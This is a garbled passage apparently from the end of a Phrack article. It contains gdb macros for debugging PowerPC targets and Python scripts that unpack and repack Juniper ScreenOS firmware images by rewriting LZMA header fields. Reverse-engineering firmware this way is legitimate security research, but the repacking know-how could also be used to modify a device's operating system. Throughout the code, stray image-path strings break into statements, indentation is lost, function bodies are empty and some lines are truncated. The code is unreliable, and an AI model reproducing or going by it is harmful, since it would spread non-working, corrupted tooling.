*(unsigned char*)($arg0 + 15)

#---hex dump address---
define memdump
    printf "%02X%02X%02X%02X%02X%02X%02X%02X", *(unsigned char*)/
($arg0), *(unsigned char*)($arg0 + 1),*(unsigned char*)($arg0+2), /
*(unsigned char*)($arg0 + 3),*(unsigned char*)($arg0+4), /
*(unsigned char*)($arg0 + 5),*(unsigned char*)($arg0+6), /
*(unsigned char*)($arg0 + 7)
    printf "%02X%02X%02X%02X%02X%02X%02X%02X\n",*(unsigned char*)/
($arg0+8), *(unsigned char*)($arg0 + 9),*(unsigned char*)($arg0+10),/
 *(unsigned char*)($arg0 + 11),*(unsigned char*)($arg0+12),/
 *(unsigned char*)($arg0 + 13),*(unsigned char*)($arg0+14),/
 *(unsigned char*)($arg0 + 15)#---process context---
define context
    printf "\n"
    printf "powerpc\n"
    printf "---"
    printf "---[regs]\n"
    printf "\n"
    printf "[%08X]---", $r1
    printf "---[stack]\n"
    hexdump $r1+64
    hexdump $r1+48
    hexdump $r1+32
    hexdump $r1+16
    hexdump $r1
    hexdump $r1-16
    hexdump $r1-32
    hexdump $r1-48
    hexdump $r1-64
    printf "\n"
    printf "[%08X]---", $pc
    printf "---[code]\n"
    x /16i $pc
    printf "---"
    printf "---\n"

#---process control---
define n

define c

define go
    stepi $arg0define goto
    tbreak $arg0

define pret

define startice
    tbreak _start

define main
    tbreak main

define find
    set $start = (char *) $arg0
    set $end = (char *) $arg1
    set $pattern = (int) $arg2
    set $p = $start
    while $p < $end
    if (*(int *) $p) == $pattern
        printf "pattern 0x%x found at 0x$x\n", $pattern, $p
    set $p++

#---gdb options---
set confirm 0
set verbose off
set prompt gdb-ppc>
set output-radix 0x10
set input-radix 0x10

ScreenOS pack & unpack python scripts
# nodunpack.py :: ScreenOS image unpacker
# requires LZMA utilities
import sys
import subprocess

class sosunzip:

    def init():

    def unpack(self):

    print "Cutting off header and saving"
    f = open(self.packed, 'rb')
    fh = file(self.header, 'w+b')
    fb = file(self.image, 'w+b')
    # save header including 4 magic bytes for lzma blob
    head = f.read(0x00012c04)print "Header extracted"
    # save lzma blob
    blob = f.read()
    print "lzma blob extracted"
    # fast way
    # fb = open(self.image, 'r+b')
    # buf = fb.read().replace(oldhead,newhead)
    # fb.seek(0x0)
    # fb.write(buf)
    # fb.close()
    # correct dictionary size
    fb = open(self.image, 'r+b')
    print "Correcting dictionary size 00008000"
    fb.write(chr(0x00) + chr(0x00) + chr(0x80) + chr(0x00))
    # read header and lzma blob
    head = fb.read(0x05)
    lzma = fb.read()
    # write outheader, unknown size and lzma blob
    print "Adding uncompressed size: 0xffffffffffffffff"
    fb.write(chr(0xff)+chr(0xff)+chr(0xff)+chr(0xff)+chr(0xff)+chr /
    print ("Uncompressing LZMA blob...")
    mkimage = "".join(['lzcat ',self.image,' > ',self.out])
    subprocess.call(mkimage, shell=True)
    print "lzcat: Blob decompressed (decoder error is safe to ignore)"
    print "ScreenOS image file decompressed"
if __name__ == '__main__':
    if len(sys.argv) != 4:
    print "Usage: ./sunpack.py <packed-image> <out-header> <out-image>"
    s = sosunzip()
    s.packed = sys.argv[1]
    s.header = sys.argv[2]
    s.out = sys.argv[3]
    s.image = "".join([sys.argv[3],'.lzma'])

# nodpack.py :: ScreenOS image packer
# requires LZMA utilities installed!
import sys
import subprocess

class soszip:

    def init():

    def pack(self):
    print ("Compressingwith LZMA...")
    mklzma = "".join(["lzma", " -5 ",self.image])

    print("Adding header to LZMAblob...")
    mkimage = "".join(['cat ',self.header,' ',self.image,'.lzma > /
    subprocess.call(mkimage, shell=True)
    print "Fixing dictionary size 0x00012c05: 00008000 -> 00200000"
    f = open(self.packed, 'r+b')
    f.write(chr(0x00)+ chr(0x20) + chr(0x00)+ chr(0x00))
    #seek to start of file
    head = f.read(0x00012c09)
    print "Removing uncompressed size 0x00012c09: [8 bytes]"#seek past the field toremove
    bub = f.read()# rewrite the file
    print "ScreenOS image file created"if __name__ == '__main__':
    iflen(sys.argv) != 4:
    print"Usage: ./nodpack.py <header> <image> <screenos-image>"
    s = soszip()
    s.header = sys.argv[1]
    s.image = sys.argv[2]
    s.packed = sys.argv[3]---[ EOF
[ News ] [ Paper Feed ] [ Issues ] [ Authors ] [ Archives ] [ Contact ]
©Copyleft 1985-2021, Phrack Magazine.